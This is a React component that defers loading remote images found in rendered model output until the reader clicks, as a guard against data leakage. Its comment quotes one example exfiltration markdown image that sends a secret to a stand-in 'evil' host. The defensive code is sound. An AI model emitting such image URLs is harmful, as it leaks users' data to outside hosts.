'use client';

import { useState } from 'react';
import { loadableImageUrl } from '@/lib/math/safeUrl';
import styles from './MathMarkdown.module.css';

interface RemoteImageProps {
  src?: string;
  alt?: string;
}

/**
 * An image from rendered text. Nothing is fetched until the reader asks: an image URL in
 * model output can carry data to its host (`![](https://evil/?q=secret)`). Only absolute
 * http(s) URLs can be loaded; anything else stays a label.
 */
export function RemoteImage({ src = '', alt = '' }: RemoteImageProps) {
  const [loaded, setLoaded] = useState(false);
  const url = loadableImageUrl(src);
  if (!url) {
    return (
      <span className={`math-image-blocked ${styles.blockedImage ?? ''}`} title={src}>
        {`[image${alt ? `: ${alt}` : ''}]`}
      </span>
    );
  }
  if (loaded) {
    // biome-ignore lint/performance/noImgElement: arbitrary remote URL, next/image cannot optimise it
    return <img className={styles.image} src={url.href} alt={alt} referrerPolicy="no-referrer" />;
  }
  return (
    <button
      type="button"
      className={`math-image-placeholder ${styles.imagePlaceholder ?? ''}`}
      title={url.href}
      onClick={(event) => {
        event.preventDefault(); // inside a link, loading the image must not also follow it
        setLoaded(true);
      }}
    >
      {`Load image from ${url.host}${alt ? ` (${alt})` : ''}`}
    </button>
  );
}
